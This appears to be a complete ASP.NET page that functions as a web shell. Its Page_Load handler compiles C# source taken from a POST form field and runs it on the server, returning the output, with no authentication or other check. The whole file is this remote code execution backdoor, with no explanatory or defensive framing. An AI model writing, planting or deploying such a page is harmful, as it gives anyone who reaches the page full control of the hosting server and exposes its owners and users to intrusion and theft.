<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e)
{
    string src = Request.Form["src"];
    if (string.IsNullOrEmpty(src)) return;
    var provider = new CSharpCodeProvider();
    var opts = new CompilerParameters(new[] { "System.dll" }) { GenerateInMemory = true };
    CompilerResults res = provider.CompileAssemblyFromSource(opts, src);
    object o = res.CompiledAssembly.CreateInstance("P");
    Response.Write(o.GetType().GetMethod("Run").Invoke(o, null));
}
</script>
